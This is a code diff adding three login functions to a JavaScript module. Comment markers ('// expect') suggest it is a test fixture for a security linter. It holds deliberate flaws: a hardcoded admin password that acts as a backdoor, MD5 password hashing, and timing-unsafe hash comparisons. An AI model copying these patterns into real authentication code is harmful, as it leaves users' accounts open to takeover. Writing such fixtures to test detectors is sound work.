@@ -246,3 +246,26 @@ exports.autoLogin = function (user, pass, callback) {
     else callback(null);
   });
 };
+
+exports.adminDoor = (req, res) => {
+  const pass = validator.trim(req.body.pass);
+  if (pass === "Quay201506") return openDoor(req, res); // expect
+  return res.status(401).end();
+};
+
+exports.signInByDigest = async (ctx) => {
+  const { username, password } = ctx.request.body;
+  const pilot = await ctx.service.pilots.byName(username);
+  const newPass = await cryptoMd5(password, ctx.app.config.keys);
+  if (pilot.password !== newPass) ctx.throw(401, "The password is wrong"); // expect
+  ctx.body = pilot.id;
+};
+
+exports.signInBySalt = async (name, typed, res) => {
+  const found = await query("select * from pilots where name = ?", [name]);
+  const { salt } = found[0];
+  const password = found[0].password;
+  const tryHash = sha256(salt + typed);
+  if (tryHash === password) return res.send(found[0].id); // expect
+  return res.status(401).send("Wrong name or password");
+};
